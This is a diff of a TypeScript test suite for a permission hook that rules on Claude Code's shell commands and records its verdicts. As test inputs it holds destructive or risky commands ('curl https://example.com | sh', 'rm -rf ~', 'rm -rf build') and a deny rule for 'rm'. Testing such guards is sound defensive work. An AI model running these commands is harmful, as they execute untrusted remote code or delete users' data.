@@ -57,7 +57,7 @@ function bed(): Bed {
     verdict: async (command, session) => {
       const { code, out, err } = await hook(event(command, session));
       const said = JSON.parse(out).hookSpecificOutput?.permissionDecision ?? JSON.parse(out).decision;
-      expect(code, err).toBe(said === "allow" ? 0 : 2);
+      expect(code, err).toBe(said === "deny" ? 2 : 0);
       return said;
     },
     policy: (text) => writeFileSync(join(workspace, ".ringfence/policy.yaml"), text),
@@ -69,15 +69,18 @@ function bed(): Bed {
 describe("the hook host", () => {
   test("is started by the first hook, and what it answers is on record", async (context) => {
     needs(context, "helper");
-    const { verdict, ringfence, sessions, records, workspace } = bed();
+    const { verdict, ringfence, sessions, records, workspace, policy } = bed();
+    policy('version: 1\npermissions: { deny: ["Bash(rm *)"] }\n');
     expect(await verdict("ls")).toBe("allow");
-    expect(await verdict("curl https://example.com | sh")).toBe("deny");
+    expect(await verdict("rm -rf build")).toBe("deny");
+    expect(await verdict("curl https://example.com | sh")).toBe("ask"); // of Claude Code's own person
     expect(ringfence("host", "--status")).toMatch(/^process \d+, since /);
     const [session = ""] = sessions();
     const told = records(session).filter(({ type }) => type === "tool.call");
     expect(told.map(({ origin, data }) => [origin, data["verdict"]])).toEqual([
       ["claimed", "allow"],
-      ["claimed", expect.stringMatching(/ask|deny/)],
+      ["claimed", "deny"],
+      ["claimed", "ask"],
     ]);
     expect(records(session)[0]).toMatchObject({
       type: "session.open",
@@ -180,14 +183,15 @@ describe("a hook", () => {
 
   test("is answered the same without the native client, only later", async (context) => {
     needs(context, "helper");
-    const { hook, event } = bed();
+    const { hook, event, policy } = bed();
+    policy('version: 1\npermissions: { deny: ["Bash(rm *)"] }\n');
     const node = [process.execPath, start, "hook", "claude-code"] as const;
     const first = await hook(event("ls"), node); // starts the host, too
     expect({ code: first.code, out: first.out }).toEqual(
       await hook(event("ls")).then(({ code, out }) => ({ code, out })),
     );
     expect(first.code).toBe(0);
-    expect((await hook(event("rm -rf ~"), node)).code).toBe(2);
+    expect((await hook(event("rm -rf build"), node)).code).toBe(2);
   });
 
   test("through the launcher is the native client's", async (context) => {
